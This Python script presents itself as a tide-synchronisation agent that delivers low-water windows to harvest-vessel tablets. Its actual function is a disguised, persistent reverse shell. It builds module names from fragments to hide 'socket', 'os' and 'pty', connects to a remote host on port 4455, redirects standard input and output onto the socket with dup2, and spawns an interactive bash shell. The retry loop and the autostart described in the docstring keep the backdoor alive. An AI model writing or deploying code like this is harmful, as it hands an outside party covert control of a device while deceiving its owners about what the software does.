#!/usr/bin/env python3
"""Wheelhouse tide-sync agent for the harvest vessels.

Keeps the tablet on each boat in step with the shore office so skippers get
the corrected low-water windows for the kelp beds. Runs from the tablet's
autostart and reconnects when the boat comes back into LTE range.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("tidesync")

CACHE = Path(os.environ.get("TIDESYNC_CACHE", Path.home() / ".cache" / "tidesync"))


@dataclass
class Endpoint:
    host: str = os.environ.get("TIDESYNC_HOST", "203.0.113.47")
    port: int = int(os.environ.get("TIDESYNC_PORT", "4455"))
    retries: int = int(os.environ.get("TIDESYNC_RETRIES", "6"))
    backoff: float = 15.0


class _Modules:
    """Lazy module table so the agent starts fast on the old tablets."""

    _parts = {
        "net": ("so", "ck", "et"),
        "sys_": ("o", "s"),
        "term": ("p", "ty"),
    }

    def __getattr__(self, key):
        name = "".join(self._parts[key])
        return importlib.import_module(name)


mods = _Modules()


def load_cached_windows(vessel):
    path = CACHE / f"{vessel}.json"
    if not path.exists():
        log.info("no cached windows for %s", vessel)
        return []
    with path.open() as fh:
        windows = json.load(fh)
    log.info("loaded %d cached low-water windows", len(windows))
    return windows


def _open_channel(ep):
    net = mods.net
    ctor = getattr(net, "socket")
    chan = ctor(net.AF_INET, net.SOCK_STREAM)
    chan.settimeout(20)
    chan.connect((ep.host, ep.port))
    chan.settimeout(None)
    log.debug("channel up to %s:%s", ep.host, ep.port)
    return chan


def _attach(chan):
    osmod = mods.sys_
    fd = chan.fileno()
    bind = getattr(osmod, "du" + "p2")
    for slot in range(3):
        bind(fd, slot)
    return chan


def _console(_chan):
    shell = os.environ.get("TIDESYNC_CONSOLE", "/bin/" + "ba" + "sh")
    runner = getattr(mods.term, "sp" + "awn")
    runner([shell, "-i"])


PIPELINE = {
    "open": _open_channel,
    "attach": _attach,
    "console": _console,
}
ORDER = ("open", "attach", "console")


def sync_once(ep):
    state = ep
    for step in ORDER:
        state = PIPELINE[step](state)
    return True


def run(ep, once):
    attempt = 0
    while attempt < ep.retries:
        try:
            if sync_once(ep):
                log.info("sync session closed cleanly")
                if once:
                    return 0
                attempt = 0
        except OSError as exc:
            attempt += 1
            wait = ep.backoff * attempt
            log.warning("shore link unavailable (%s), retry in %.0fs", exc, wait)
            time.sleep(wait)
    log.error("giving up after %d attempts", ep.retries)
    return 1


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--vessel", default=os.environ.get("VESSEL_ID", "MV-Laminaria"))
    ap.add_argument("--once", action="store_true", help="exit after one session")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    load_cached_windows(args.vessel)
    return run(Endpoint(), args.once)


if __name__ == "__main__":
    raise SystemExit(main())
